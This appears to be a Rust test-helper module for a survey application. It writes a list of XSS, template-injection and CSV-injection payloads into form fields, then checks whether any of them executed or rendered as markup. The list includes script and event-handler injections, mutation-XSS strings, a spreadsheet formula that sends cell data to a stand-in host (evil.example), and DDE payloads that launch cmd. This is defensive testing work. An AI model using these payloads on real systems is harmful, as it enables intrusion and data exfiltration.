//! Markup written to run: the payloads the injection suite (`tests/injection.rs`) writes into
//! every field a company or a respondent can fill, and the check that none of it ran or became
//! markup on a page.
//!
//! Each payload that would run sets `window.__xss` (or its parent's) to its own number, so a
//! failure names the payload that got through.

use super::{eval, Browser};
use fantoccini::Locator;

/// Script tags, event handlers, `javascript:` and `data:` URLs, closing tags of the places text
/// is put (inline JSON, titles, text areas, styles, comments, CDATA), SVG and MathML, mutation
/// XSS, template syntax, already-escaped markup and the spreadsheet formulas of CSV injection.
pub const PAYLOADS: &[&str] = &[
    "<script>window.__xss=1</script>",
    "<img src=x onerror=\"window.__xss=2\">",
    "<svg onload=window.__xss=3>",
    "<svg><script>window.__xss=4</script></svg>",
    "\"><img src=x onerror=window.__xss=5>",
    "'><svg/onload=window.__xss=6>",
    "</script><script>window.__xss=7</script>",
    "</textarea><img src=x onerror=window.__xss=8>",
    "</title><img src=x onerror=window.__xss=9>",
    "</style><img src=x onerror=window.__xss=10>",
    "javascript:window.__xss=11",
    "data:text/html,<script>parent.__xss=12</script>",
    "<a href=\"javascript:window.__xss=13\">13</a>",
    "<iframe srcdoc=\"<script>parent.__xss=14</script>\"></iframe>",
    "<iframe src=\"javascript:parent.__xss=15\"></iframe>",
    "<details open ontoggle=window.__xss=16>",
    "<body onload=window.__xss=17>",
    "<input autofocus onfocus=window.__xss=18>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=19>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=20>",
    "<svg></p><style><a id=\"</style><img src=x onerror=window.__xss=21>\">",
    "{{constructor.constructor('window.__xss=22')()}}",
    "${window.__xss=23}",
    "#{window.__xss=24}",
    "<object data=\"javascript:window.__xss=25\"></object>",
    "<embed src=\"data:text/html,<script>parent.__xss=26</script>\">",
    "<form action=\"javascript:window.__xss=27\"><button>27</button></form>",
    "<base href=\"javascript:window.__xss=28//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__xss=29\">",
    "--><img src=x onerror=window.__xss=30>",
    "]]><img src=x onerror=window.__xss=31>",
    "&lt;img src=x onerror=window.__xss=32&gt;",
    "<video><source onerror=\"window.__xss=33\"></video>",
    "34\u{2028}</script><img src=x onerror=window.__xss=34>",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"35\")",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
];

/// The payloads, packed in order into texts of at most `max` characters each (one payload per
/// text where `max` is short): written into one field each, the texts carry every payload.
pub fn packed(max: usize) -> Vec<String> {
    pack(PAYLOADS.iter().copied(), max)
}

/// The same for a survey's own texts, where `{{question}}` recalls an earlier answer: a template
/// that names no question is refused there (the suite checks the refusal), so it is left out.
pub fn packed_for_survey(max: usize) -> Vec<String> {
    pack(PAYLOADS.iter().copied().filter(|p| !p.starts_with("{{")), max)
}

fn pack<'a>(payloads: impl Iterator<Item = &'a str>, max: usize) -> Vec<String> {
    let mut texts: Vec<String> = Vec::new();
    for payload in payloads {
        match texts.last_mut() {
            Some(last) if last.chars().count() + 1 + payload.chars().count() <= max => {
                last.push(' ');
                last.push_str(payload);
            }
            _ => texts.push(payload.to_owned()),
        }
    }
    texts
}

/// Every payload in one text, for the fields long enough (2,000 characters and more).
pub fn all() -> String {
    let all = PAYLOADS.join(" ");
    assert!(all.chars().count() <= 2000, "the payloads fit a 2,000-character field");
    all
}

/// What ran or became markup in the page the browser is on and in every frame inside it: the
/// `window.__xss` marker, event-handler attributes, `javascript:`/`data:` URLs, and elements only a
/// payload brings (`img` without an `alt`, `svg`/`iframe`/`object`/`embed`/`base`/`meta refresh`
/// in the body). Empty when nothing did.
pub async fn what_ran(browser: &Browser) -> Vec<String> {
    const CHECK: &str = r#"
        const found = [];
        try { if (window.__xss !== undefined) found.push('window.__xss = ' + window.__xss); } catch (e) {}
        for (const e of document.querySelectorAll('*')) {
          for (const a of e.attributes) {
            const v = a.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
            if (a.name.startsWith('on') || (/^(javascript|data|vbscript):/.test(v)
                && ['href', 'src', 'action', 'formaction', 'data', 'srcdoc', 'xlink:href', 'content'].includes(a.name)))
              found.push(e.tagName + ' ' + a.name + '="' + a.value + '"');
          }
          if (e.hasAttribute('srcdoc') || (e.tagName == 'META' && /refresh/i.test(e.httpEquiv))
              || (e.tagName == 'IMG' && e.getAttribute('src') == 'x'))
            found.push('an injected ' + e.tagName);
        }
        return found;"#;
    let mut found: Vec<String> =
        serde_json::from_value(eval(browser, CHECK).await).expect("the check returns a list of findings");
    // Into each frame, as far as the browser lets a test go (every frame of these pages is on
    // one of the two test origins).
    let frames = browser.client.find_all(Locator::Css("iframe")).await.unwrap_or_default();
    for frame in frames {
        if frame.clone().enter_frame().await.is_ok() {
            found.extend(Box::pin(what_ran(browser)).await.into_iter().map(|f| format!("in a frame: {f}")));
            browser.client.enter_parent_frame().await.unwrap();
        }
    }
    found
}

/// The text a person reads on the page (and in its frames), with what form fields hold.
pub async fn shown_text(browser: &Browser) -> String {
    const TEXT: &str = "return document.body.innerText + '\\n' + [...document.querySelectorAll('input, textarea')]
        .map(f => f.value).join('\\n')";
    let mut text = eval(browser, TEXT).await.as_str().unwrap_or_default().to_owned();
    let frames = browser.client.find_all(Locator::Css("iframe")).await.unwrap_or_default();
    for frame in frames {
        if frame.clone().enter_frame().await.is_ok() {
            text.push('\n');
            text.push_str(&Box::pin(shown_text(browser)).await);
            browser.client.enter_parent_frame().await.unwrap();
        }
    }
    text
}
